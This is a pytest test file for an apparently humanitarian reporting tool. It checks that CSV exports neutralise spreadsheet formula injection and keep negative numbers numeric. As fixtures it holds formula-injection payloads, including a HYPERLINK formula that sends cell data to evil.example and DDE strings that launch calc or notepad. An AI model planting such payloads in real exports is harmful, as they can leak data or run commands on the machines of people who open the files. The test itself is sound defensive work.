"""CSV formula injection (issue 23 item 7): a party's text such as ``=HYPERLINK(...)`` must not
reach a spreadsheet as a formula through any CSV export (ACLED, HXL, sites HXL), while genuine
numbers, negative ones included, stay numbers in numeric columns."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from truce.config import Settings
from truce.model import Site
from truce.node import Node
from truce.report import run_export, run_import
from truce.report.formats.acled import COLUMNS, NUMERIC
from truce.report.sample import build_sample
from truce.spreadsheet import TRIGGERS, neutralise

PAYLOADS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "text": "@SUM(1+1)*cmd|' /C calc'!A0",
    "actor": "+cmd|' /C notepad'!A1",
    "source": "-2+3+cmd|' /C calc'!A0",
    "place": "=1+1",
    "tag": "=2+2",
}


@pytest.fixture(scope="module")
def node(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Node]:
    home = tmp_path_factory.mktemp("csv") / "home"
    with build_sample(Settings(home=home)) as n:
        author = n.parties()[-1]["id"]
        n.append(
            author,
            "report.filed",
            {
                "title": PAYLOADS["title"],
                "text": PAYLOADS["text"],
                "event_type": "Explosions/Remote violence",
                "sub_event_type": "Shelling/artillery/missile attack",
                "date": "2019-03-12",
                "locations": [
                    {"place": PAYLOADS["place"], "point": {"lat": "35.38", "lon": "36.69"}}
                ],
                "actors": [{"name": PAYLOADS["actor"], "role": "perpetrator", "inter": 2}],
                "sources": [{"name": PAYLOADS["source"], "kind": "party"}],
                # ACLED's timestamp column is numeric: a negative number must stay one, a formula
                # smuggled in through the tag that carries it must not.
                "tags": [PAYLOADS["tag"], "acled:timestamp=-86400"],
            },
        )
        n.append(
            "center" if any(p["id"] == "center" for p in n.parties()) else author,
            "site.registered",
            Site.model_validate(
                {
                    "id": "evil-site",
                    "name": '=WEBSERVICE("http://evil.example")',
                    "kind": "hospital",
                    "lat": "35.5",
                    "lon": "36.6",
                    "notes": "-1+1",
                }
            ),
        )
        yield n


def export(node: Node, name: str, unit: str = "incidents") -> str:
    buffer = io.StringIO()
    run_export(node, name, buffer, unit=unit)
    return buffer.getvalue()


def _dangerous(cell: str, numeric: bool) -> bool:
    if not cell or cell[0] not in TRIGGERS:
        return False
    if numeric:
        try:
            float(cell)
        except ValueError:
            return True
        return False
    return True


@pytest.mark.parametrize("unit", ["incidents", "reports"])
def test_acled_export_neutralises_every_formula(node: Node, unit: str) -> None:
    rows = list(csv.reader(io.StringIO(export(node, "acled", unit))))
    assert rows[0] == list(COLUMNS)
    cells = [(COLUMNS[i], cell) for row in rows[1:] for i, cell in enumerate(row)]
    bad = [(c, v) for c, v in cells if _dangerous(v, c in NUMERIC)]
    assert bad == []
    values = {v for _, v in cells}
    assert "'" + PAYLOADS["text"] in " ".join(values) or any(v.startswith("'@SUM") for v in values)
    assert "'" + PAYLOADS["actor"] in values
    assert "'" + PAYLOADS["source"] in values
    assert "'" + PAYLOADS["place"] in values


def test_acled_negative_number_stays_a_number(node: Node) -> None:
    rows = list(csv.DictReader(io.StringIO(export(node, "acled", "reports"))))
    stamps = [r["timestamp"] for r in rows]
    assert "-86400" in stamps  # not "'-86400": a spreadsheet still reads it as a number
    assert all(not s.startswith("'") for s in stamps)


def test_hxl_export_neutralises_every_formula(node: Node) -> None:
    rows = list(csv.reader(io.StringIO(export(node, "hxl", "reports"))))
    tags = rows[1]
    bad = [
        (tags[i], cell)
        for row in rows[2:]
        for i, cell in enumerate(row)
        if _dangerous(cell, tags[i].startswith(("#geo", "#affected")))
    ]
    assert bad == []
    assert "'" + PAYLOADS["title"] in {c for row in rows[2:] for c in row}


def test_sites_hxl_export_neutralises_and_imports_back(node: Node, tmp_path: Path) -> None:
    text = export(node, "sites-hxl")
    rows = list(csv.reader(io.StringIO(text)))
    assert all(not _dangerous(c, False) for row in rows[2:] for c in row[:3] + row[5:])
    evil = next(row for row in rows if row[0] == "evil-site")
    assert evil[1] == '\'=WEBSERVICE("http://evil.example")'
    assert evil[-1] == "'-1+1"


def test_acled_import_of_an_export_gives_the_text_back(node: Node, tmp_path: Path) -> None:
    """The quote is the export's, not the party's: importing the export restores the text."""
    rows = list(csv.DictReader(io.StringIO(export(node, "acled", "reports"))))
    mine = next(r for r in rows if r["actor1"] == "'" + PAYLOADS["actor"])
    mine["event_id_cnty"] = "SYR-EVIL-1"
    path = tmp_path / "back.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=COLUMNS, lineterminator="\n")
        writer.writeheader()
        writer.writerow(mine)
    before = node.ledger.size
    run_import(node, "acled", path, author="ingest")
    assert node.ledger.size == before + 1
    again = list(csv.DictReader(io.StringIO(export(node, "acled", "reports"))))
    back = next(r for r in again if r["event_id_cnty"] == "SYR-EVIL-1")
    assert back["actor1"] == "'" + PAYLOADS["actor"]  # neutralised again on the way out
    reports = node.reports()
    assert PAYLOADS["actor"] in reports[-1]["body"]  # and stored as the party wrote it


@pytest.mark.parametrize(
    ("value", "numeric", "expected"),
    [
        ("-36.5", True, "-36.5"),
        ("-3", True, "-3"),
        ("-3", False, "'-3"),
        ("-1+1", True, "'-1+1"),
        ("=1", True, "'=1"),
        ("+1", True, "'+1"),
        ("\t=1", False, "'\t=1"),
        ("\r=1", False, "'\r=1"),
        ("plain", False, "plain"),
        ("", False, ""),
    ],
)
def test_neutralise_keeps_numbers_in_numeric_columns(
    value: str, numeric: bool, expected: str
) -> None:
    assert neutralise(value, numeric=numeric) == expected
